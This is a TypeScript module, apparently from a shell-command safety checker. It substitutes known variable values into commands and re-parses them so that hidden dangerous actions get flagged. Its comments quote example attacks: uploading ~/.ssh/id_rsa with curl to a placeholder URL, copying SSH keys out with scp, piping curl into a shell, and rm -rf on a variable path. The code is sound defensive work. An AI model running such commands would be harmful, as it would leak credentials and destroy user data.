/**
 * Variables the line itself gives a value, seen where they are used: `k=~/.ssh/id_rsa; curl -F
 * f=@$k URL` sends what `curl -F f=@~/.ssh/id_rsa URL` sends, `f=~/.bashrc; echo x >> "$f"`
 * writes ~/.bashrc, `for k in ~/.ssh/id_*; do scp "$k" h:; done` copies the keys. A command that
 * uses such a variable is parsed again with the value written in, besides being checked as
 * written, so a known value can only add findings. A variable set more than once (or by a loop)
 * may hold any of its values: each is tried, with and without field splitting where the word does
 * not say which applies.
 */

import type { Facts, SimpleCommand, Span, Word } from "../../facts/types.js";
import type { Nest, Origin, Quiet } from "./types.js";
import { constructIndex, encloses, subshellAround } from "../tree.js";
import { globText, literalText } from "./strings.js";

/** A piece of a value: 1 its text (split and globbed where used unquoted), 2 a run-time expansion, 3 a glob from a loop list. */
interface Piece {
  text: string;
  kind: 1 | 2 | 3;
}

interface Entry {
  pieces: Piece[];
  /** Source range of the commands that may see it: after an assignment, inside a loop. */
  from: number;
  to: number;
  /** The construct the assignment is in (a later one there replaces it); -2 for a loop's list. */
  parent: number;
}

export interface KnownValues {
  names: Map<string, Entry[]>;
  /** Commands parsed again so far in this parse, and their characters (both bounded). */
  reparses: number;
  chars: number;
  /** Redirects of enclosing statements already parsed again (by their start). */
  outer: Set<number>;
  /** Pipelines already parsed again (by their ordinal). */
  pipelines: Set<number>;
}

/**
 * What a parse with guessed values does not report: the command as written already reports a
 * name or code only known at run time, and a value that makes code unreadable (an approximation:
 * a quote built up over several assignments) says nothing about what runs.
 */
const QUIET_IDS: ReadonlySet<string> = new Set(["injection/parse-error", "shell/opaque-code", "shell/unsupported-syntax", "shell/dynamic-command", "shell/eval", "sed/unverifiable-script", "dangerous/unknown-arguments"]);
export const valuesQuiet: Quiet = (id) => QUIET_IDS.has(id);

/** The last values of a name tried at a use; reparses and their characters per parse. */
const MAX_VARIANTS = 8;
const MAX_REPARSES = 64;
const MAX_CHARS = 32 * 1024;
const MAX_VALUE = 1024;
/** Nested deeper than this, a use is not parsed again (it would push the line's strings past the depth limit). */
const MAX_ORIGIN_DEPTH = 2;

const VARIABLE = /^\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))$/;
const NAME_EQ = /^([A-Za-z_][A-Za-z0-9_]*)=/;
const DECLARERS: ReadonlySet<string> = new Set(["export", "declare", "typeset", "local", "readonly"]);
/** `for NAME in WORDS; do` / `for NAME in WORDS⏎do`. */
const FOR_HEADER = /^for\s+([A-Za-z_][A-Za-z0-9_]*)\s+in\s+([^;\n]*)[;\n]\s*do\b/;
/** A loop-list word read: plain characters, a leading `~`, `$HOME`, quotes around plain text. */
const LIST_WORD = /^(?:~|"?\$\{?HOME\}?"?)?[^\s'"`$\\()<>|&;]*$/;
const GLOB = /[*?[]/;
const IFS_WHITESPACE = /[ \t\n]+/;
const SPLITS = /[ \t\n*?[]/;

/**
 * A part still unknown with the values in, written `${X:?}`: never empty, so the parse again does
 * not repeat what the command as written says about an empty variable (`rm -rf "$D/"`). HOME and
 * PWD stay as they are: the checks read them as the directories they are.
 */
const unknown = (name: string | null): string => (name === "HOME" || name === "PWD" ? `\${${name}}` : `\${${name ?? "__dynamic"}:?}`);
const quote = (s: string): string => literalText(s) || "''";
const add = (known: KnownValues | null): KnownValues => known ?? { names: new Map(), reparses: 0, chars: 0, outer: new Set(), pipelines: new Set() };

/** Records what `sc` assigns (`x=v`, `export x=v`, `local x=v`) for the commands after it. */
export function noteValues(sc: SimpleCommand, facts: Facts, known: KnownValues | null): KnownValues | null {
  const first = sc.argv[0];
  if (first === undefined) {
    for (const a of sc.assignments) known = assign(known, a.name, a.value, a.append, sc, facts);
    return known;
  }
  if (first.dynamic !== null || !DECLARERS.has(first.value)) return known;
  for (let k = 1; k < sc.argv.length; k++) {
    const w = sc.argv[k] as Word;
    const m = NAME_EQ.exec(w.value);
    if (m === null || (w.dynamic !== null && (w.dynamic[0] as Span)[0] < m[0].length)) continue;
    const at = m[0].length;
    const rawValue = facts.source.slice(w.start, w.end).slice(at);
    // `declare -a x=(…)`: an array, not one value.
    if (rawValue.startsWith("(")) continue;
    const value: Word = { value: w.value.slice(at), start: w.start, end: w.end, quoted: w.quoted, glob: w.glob, tilde: rawValue.startsWith("~"), dynamic: w.dynamic === null ? null : w.dynamic.map(([s, e]) => [s - at, e - at] as Span) };
    known = assign(known, m[1] as string, value, false, sc, facts);
  }
  return known;
}

/**
 * Records `name` = `value` after `sc`. A later assignment in the same construct replaces the
 * earlier ones (`x=/etc; x=$(mktemp)` leaves x unknown); one in a branch, or after `&&`, adds to them.
 */
function assign(known: KnownValues | null, name: string, value: Word | null, append: boolean, sc: SimpleCommand, facts: Facts): KnownValues | null {
  const at = sc.start;
  const alternatives = value === null ? [[]] : value.value.length > MAX_VALUE ? null : valuePieces(value, known, at);
  const before = append ? entriesAt(known, name, at, false) : null;
  let list = known?.names.get(name);
  // Only an assignment that surely runs replaces: not `false && x=a`, not one in a pipeline or the background.
  // An if or case holds its branches under one construct: an assignment there replaces nothing.
  const branches = sc.parent >= 0 && BRANCHING.has((facts.constructs[sc.parent] as Facts["constructs"][number]).type);
  const sure = sc.sep !== "&&" && sc.sep !== "||" && sc.stage < 0 && !sc.background && !branches;
  if (list !== undefined && sure) list = list.filter((e) => e.parent !== sc.parent || e.to !== Infinity);
  if (alternatives !== null && !(append && before === null)) {
    list ??= [];
    for (const pieces of alternatives) {
      if (before === null) list.push({ pieces, from: sc.end, to: Infinity, parent: sc.parent });
      else for (const b of before) list.push({ pieces: [...b, ...pieces], from: sc.end, to: Infinity, parent: sc.parent });
    }
  }
  if (list === undefined) return known;
  const k = add(known);
  k.names.set(name, list.length > MAX_VARIANTS * 2 ? list.slice(-MAX_VARIANTS * 2) : list);
  return k;
}

/**
 * The values `name` may hold at `at`, the latest last; null when none is known. `use`: for a
 * command's words, where an empty value adds nothing (an empty variable in a delete target is the
 * deletion check's own case); building a value, `x=; x="$x -F …"` needs it.
 */
function entriesAt(known: KnownValues | null, name: string, at: number, use = true): Piece[][] | null {
  const list = known?.names.get(name);
  if (list === undefined) return null;
  const out: Piece[][] = [];
  for (const e of list) if (e.from <= at && at < e.to && !(use && e.pieces.length === 0)) out.push(e.pieces);
  return out.length === 0 ? null : out.length > MAX_VARIANTS ? out.slice(-MAX_VARIANTS) : out;
}

/**
 * An assigned word as pieces, one list per combination of the known variables it uses (`y=$x`
 * with x known); null when the value is all run time (`x=$(cmd)`: nothing to learn from it).
 */
function valuePieces(w: Word, known: KnownValues | null, at: number): Piece[][] | null {
  const out: Piece[][] = [];
  let anyKnown = w.dynamic === null;
  for (let v = 0; v < MAX_VARIANTS; v++) {
    const pieces: Piece[] = [];
    let rest = w.value;
    let offset = 0;
    if (w.tilde) {
      const m = /^~([+-]|[A-Za-z0-9_.-]*)(?=\/|$)/.exec(rest);
      if (m !== null) {
        const user = m[1] as string;
        pieces.push(user === "" ? { text: "${HOME}", kind: 2 } : user === "+" ? { text: "${PWD}", kind: 2 } : user === "-" ? { text: unknown("OLDPWD"), kind: 2 } : { text: user === "root" ? "/root" : `/home/${user}`, kind: 1 });
        anyKnown = true;
        offset = m[0].length;
        rest = rest.slice(offset);
      }
    }
    let more = false;
    let pos = offset;
    for (const [s, e] of w.dynamic ?? []) {
      if (s > pos) {
        pieces.push({ text: w.value.slice(pos, s), kind: 1 });
        anyKnown = true;
      }
      const text = w.value.slice(s, e);
      const m = VARIABLE.exec(text);
      const name = m === null ? null : ((m[1] ?? m[2]) as string);
      const values = name === null ? null : entriesAt(known, name, at, false);
      if (values !== null) {
        anyKnown = true;
        more ||= v + 1 < values.length;
        pieces.push(...(values[values.length - 1 - Math.min(v, values.length - 1)] as Piece[]));
      } else pieces.push({ text: unknown(name), kind: 2 });
      pos = e;
    }
    if (pos < w.value.length) {
      pieces.push({ text: w.value.slice(pos), kind: 1 });
      anyKnown = true;
    }
    out.push(pieces);
    if (!more) break;
  }
  return anyKnown ? out : null;
}

/** Records the plain lists of `for` loops (`for k in ~/.ssh/id_*`), for the commands inside each. */
export function loopValues(facts: Facts, known: KnownValues | null): KnownValues | null {
  for (const c of facts.constructs) {
    if (c.type !== "for_statement") continue;
    const h = FOR_HEADER.exec(facts.source.slice(c.start, c.end));
    if (h === null) continue;
    const words = (h[2] as string).split(/\s+/).filter((x) => x !== "");
    if (words.length === 0 || words.length > MAX_VARIANTS || !words.every((x) => LIST_WORD.test(x))) continue;
    const k = (known = add(known));
    const list = k.names.get(h[1] as string) ?? [];
    for (const word of words) {
      const home = /^(?:~|"?\$\{?HOME\}?"?)(?=\/|$)/.exec(word);
      const tail = word.slice(home === null ? 0 : home[0].length).replace(/"/g, "");
      const pieces: Piece[] = home === null ? [] : [{ text: "${HOME}", kind: 2 }];
      if (tail !== "") pieces.push({ text: tail, kind: GLOB.test(tail) ? 3 : 1 });
      list.push({ pieces, from: c.start + h[0].length, to: c.end, parent: -2 });
    }
    k.names.set(h[1] as string, list);
  }
  return known;
}

/**
 * Parses `sc` again once per combination of the known values it uses (none: nothing happens).
 * A command with a heredoc is left as written (its body cannot be carried into one line).
 */
export function withValues(sc: SimpleCommand, facts: Facts, known: KnownValues, origin: Origin, nest: Nest): void {
  // Assignments alone run nothing (their values were followed when they were recorded).
  if (sc.argv.length === 0 || origin.depth > MAX_ORIGIN_DEPTH || known.reparses >= MAX_REPARSES) return;
  // A name still partly unknown with the values in would only repeat shell/dynamic-command.
  const name = sc.argv[0] as Word;
  if (name.dynamic !== null && !fullyKnown(name, known, sc.start)) return;
  let uses = 0;
  let ambiguous = false;
  const count = (w: Word | null): void => {
    if (w === null || w.dynamic === null) return;
    const n = variants(w, known, sc.start);
    if (n > 0) {
      uses = Math.max(uses, n);
      // Inside double quotes a value is one word; outside, it is split and globbed: a word with
      // both kinds of quoting could be either at the variable.
      if (w.quoted && facts.source.slice(w.start, w.end).includes('"') && splits(w, known, sc.start)) ambiguous = true;
    }
  };
  for (const a of sc.assignments) count(a.value);
  for (const w of sc.argv) count(w);
  for (const r of sc.redirects) {
    if (r.op === "<<" || r.op === "<<-") return;
    // A redirect of the statement around (`while …; done < "$f"`, `{ …; } >> "$f"`) is parsed
    // again with the first command it applies to, not with each.
    if (r.start < sc.start || r.end > sc.end) {
      if (known.outer.has(r.start)) continue;
      if (r.target !== null && r.target.dynamic !== null && variants(r.target, known, sc.start) > 0) known.outer.add(r.start);
    }
    count(r.target);
  }
  if (uses === 0) return;
  // A stage is parsed again with its whole pipeline: `curl … | $sh` pipes into a shell.
  const stages = sc.stage >= 0 ? pipelineOf(sc, facts) : [sc];
  if (sc.stage >= 0) {
    if (known.pipelines.has(sc.pipeline)) return;
    known.pipelines.add(sc.pipeline);
  }
  const range: [number, number] = origin.range ?? [(stages[0] as SimpleCommand).start, (stages[stages.length - 1] as SimpleCommand).end];
  const moves = movesBefore(sc, facts);
  let last = "";
  for (let v = 0; v < uses; v++) {
    for (const split of ambiguous ? [false, true] : [null]) {
      if (known.reparses >= MAX_REPARSES || known.chars >= MAX_CHARS) return;
      const text = moves + stages.map((c) => rewrite(c, facts, known, v, split, sc.start)).join(" | ");
      if (text === last) continue;
      last = text;
      known.reparses++;
      known.chars += text.length;
      nest(text, range, { ...origin, speculative: valuesQuiet });
    }
  }
}

const BRANCHING: ReadonlySet<string> = new Set(["if_statement", "case_statement"]);
const MOVES: ReadonlySet<string> = new Set(["cd", "pushd", "popd"]);
/** At most this many of the cds before a command are carried into its parse again (the last ones). */
const MAX_MOVES = 4;

/**
 * The cds that reach `sc` (before it, outside any subshell it is not in), as text to run first:
 * `cd intl && for f in *; do rm -rf "$f"; done` deletes in intl, not here.
 */
function movesBefore(sc: SimpleCommand, facts: Facts): string {
  let out: string[] | null = null;
  for (const c of facts.commands) {
    if (c.end > sc.start) break;
    const first = c.argv[0];
    if (first === undefined || first.dynamic !== null || !MOVES.has(first.value)) continue;
    const index = constructIndex(facts);
    if (!encloses(index, subshellAround(index, c.parent), sc.parent)) continue;
    (out ??= []).push(facts.source.slice(c.start, c.end));
  }
  return out === null ? "" : out.slice(-MAX_MOVES).join("; ") + "; ";
}

/** The stages of the pipeline `sc` is in, in order. */
function pipelineOf(sc: SimpleCommand, facts: Facts): SimpleCommand[] {
  const out: SimpleCommand[] = [];
  for (const c of facts.commands) if (c.pipeline === sc.pipeline && c.stage >= 0) out[c.stage] = c;
  return out.filter((c) => c !== undefined);
}

/** Every dynamic part of `w` is a known variable whose values are all text. */
function fullyKnown(w: Word, known: KnownValues, at: number): boolean {
  for (const [s, e] of w.dynamic ?? []) {
    const m = VARIABLE.exec(w.value.slice(s, e));
    const values = m === null ? null : entriesAt(known, (m[1] ?? m[2]) as string, at);
    if (values === null || values.some((pieces) => pieces.some((p) => p.kind === 2))) return false;
  }
  return true;
}

/** Some value of a known variable in `w` has whitespace or a glob character (quoting then matters). */
function splits(w: Word, known: KnownValues, at: number): boolean {
  for (const [s, e] of w.dynamic ?? []) {
    const m = VARIABLE.exec(w.value.slice(s, e));
    const values = m === null ? null : entriesAt(known, (m[1] ?? m[2]) as string, at);
    if (values !== null && values.some((pieces) => pieces.some((p) => p.kind === 1 && SPLITS.test(p.text)))) return true;
  }
  return false;
}

/** How many values the known variables of `w` may take (0: it uses none). */
function variants(w: Word, known: KnownValues, at: number): number {
  let n = 0;
  for (const [s, e] of w.dynamic ?? []) {
    const m = VARIABLE.exec(w.value.slice(s, e));
    const values = m === null ? null : entriesAt(known, (m[1] ?? m[2]) as string, at);
    if (values !== null) n = Math.max(n, values.length);
  }
  return n;
}

/** `sc` as shell text with variant `v` of every known variable written in; `split` null: as each word's quoting says. */
function rewrite(sc: SimpleCommand, facts: Facts, known: KnownValues, v: number, split: boolean | null, at: number): string {
  const parts: string[] = [];
  const word = (w: Word): string => {
    if (w.dynamic === null || variants(w, known, at) === 0) return facts.source.slice(w.start, w.end);
    return emit(w, known, at, v, split ?? !(w.quoted && facts.source.slice(w.start, w.end).includes('"')));
  };
  for (const a of sc.assignments) parts.push(a.value === null ? facts.source.slice(a.start, a.end) : `${a.name}${a.append ? "+=" : "="}${word(a.value)}`);
  for (const w of sc.argv) {
    const text = word(w);
    // An unquoted expansion that comes out empty is no word at all (`rm $empty`).
    if (text !== "") parts.push(text);
  }
  for (const r of sc.redirects) parts.push(r.target === null ? facts.source.slice(r.start, r.end) : facts.source.slice(r.start, r.target.start) + word(r.target));
  return parts.join(" ");
}

/** One word with its known variables written in; `split`: the variables are outside double quotes. */
function emit(w: Word, known: KnownValues, at: number, v: number, split: boolean): string {
  let out = "";
  let pos = 0;
  // The word's own leading `~` is still the word's: kept unquoted.
  if (w.tilde) {
    const m = /^~[A-Za-z0-9_.+-]*(?=\/|$)/.exec(w.value);
    if (m !== null) {
      out += m[0];
      pos = m[0].length;
    }
  }
  for (const [s, e] of w.dynamic ?? []) {
    if (s > pos) out += quote(w.value.slice(pos, s));
    const text = w.value.slice(s, e);
    const m = VARIABLE.exec(text);
    const values = m === null ? null : entriesAt(known, (m[1] ?? m[2]) as string, at);
    if (values === null) out += `"${unknown(m === null ? null : ((m[1] ?? m[2]) as string))}"`;
    else for (const p of values[values.length - 1 - Math.min(v, values.length - 1)] as Piece[]) out += piece(p, split);
    pos = e;
  }
  if (pos < w.value.length) out += quote(w.value.slice(pos));
  return out === "" && !split ? "''" : out;
}

function piece(p: Piece, split: boolean): string {
  if (p.kind === 2) return `"${p.text}"`;
  if (p.kind === 1 && !split) return p.text === "" ? "" : quote(p.text);
  return p.kind === 3 ? globText(p.text) : p.text.split(IFS_WHITESPACE).map(globText).join(" ");
}
